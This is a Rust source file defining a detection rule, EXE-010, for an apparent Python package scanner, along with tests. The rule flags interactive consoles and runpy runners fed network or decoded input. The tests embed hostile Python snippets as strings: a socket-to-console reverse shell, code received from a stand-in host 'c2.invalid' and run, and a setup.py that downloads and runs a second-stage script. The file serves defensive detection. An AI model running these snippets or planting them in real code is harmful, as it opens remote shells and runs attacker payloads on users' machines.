//! `EXE-010`: a console or runner is given what came from elsewhere.

use portcullis_core::inspection::{Confidence, Observation, Severity};

use super::sent::FAR;
use super::{Rule, even_if_asked, in_context, observe_call, observe_flow};
use crate::python::{Analysis, Call, Label, Module, SinkKind};

/// The rule.
pub(super) struct Consoles;

impl Rule for Consoles {
    fn id(&self) -> &'static str {
        "EXE-010"
    }

    fn severity(&self) -> Severity {
        Severity::Medium
    }

    fn title(&self) -> &'static str {
        "a console or runner is given foreign input"
    }

    fn manual(&self) -> &'static str {
        "`code.interact`, `runsource` or `runpy` get data from the network, from decoding \
         or from a data file; or a console is opened in code that also holds a \
         connection.\n\n\
         A console on a connection is a shell in Python, and watches for shells do not \
         see it.\n\n\
         Mistaken for it: consoles and runners that a user starts."
    }

    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        for flow in &analysis.flows {
            let is_foreign = matches!(
                flow.label,
                Label::Net | Label::Dropped | Label::Decoded | Label::Decrypted | Label::OwnFile
            );
            if !is_foreign || !is_runner(analysis.sink(flow)) {
                continue;
            }
            let worst = if flow.hops > FAR {
                Severity::Low
            } else {
                Severity::Medium
            };
            let severity = in_context(worst, flow.context);
            let confidence = Confidence::of(85).in_context(flow.context);
            let message = format!(
                "{} is given {}",
                analysis.sink(flow).target,
                flow.label.words()
            );
            observations.push(observe_flow(
                self,
                (analysis, flow),
                (severity, confidence),
                message,
            ));
        }
        for module in analysis
            .modules
            .iter()
            .filter(|module| is_connected(module))
        {
            for call in module.calls.iter().filter(|call| is_console(call)) {
                let severity = even_if_asked(Severity::High, call.context);
                let confidence = Confidence::of(80).in_context(call.context);
                let message = format!("{} is opened where there is a connection", call.target);
                observations.push(observe_call(self, call, (severity, confidence), message));
            }
        }
    }
}

fn is_runner(call: &Call) -> bool {
    let is_exec = call.sink == Some(SinkKind::Exec) && call.target.starts_with("code.");
    is_exec || call.target.starts_with("runpy.")
}

fn is_console(call: &Call) -> bool {
    matches!(
        &*call.target,
        "code.interact" | "code.InteractiveConsole().interact"
    )
}

fn is_connected(module: &Module) -> bool {
    module.calls.iter().any(|call| {
        let name = call.target.rsplit('.').next().unwrap_or_default();
        call.target.starts_with("socket.")
            && matches!(name, "connect" | "accept" | "create_connection")
    })
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, quiet};

    #[test]
    fn consoles_with_foreign_input_are_seen() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "import socket, code\ns = socket.socket()\ns.connect(('c2.invalid', 1))\ni = code.InteractiveInterpreter()\ni.runsource(s.recv(4096).decode())",
            ),
            (
                "demo/__init__.py",
                "import socket, os, code\ns = socket.create_connection(('c2.invalid', 1))\nos.dup2(s.fileno(), 0)\ncode.interact()",
            ),
            (
                "setup.py",
                "import urllib.request, runpy\nurllib.request.urlretrieve('https://c2.invalid/a.py', '/tmp/stage_two.py')\nrunpy.run_path('/tmp/stage_two.py')",
            ),
            (
                "demo/__init__.py",
                "from code import InteractiveConsole as C\nimport base64\nC().push(base64.b64decode(t).decode())",
            ),
        ] {
            found("EXE-010", path, code);
        }
    }

    #[test]
    fn consoles_of_the_user_are_not() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "import code\ncode.interact(banner='demo')",
            ),
            (
                "demo/__init__.py",
                "import runpy\nrunpy.run_module('demo.main', run_name='__main__')",
            ),
            (
                "demo/__init__.py",
                "import code\ndef shell():\n    code.interact(local=globals())",
            ),
        ] {
            quiet("EXE-010", path, code);
        }
    }
}
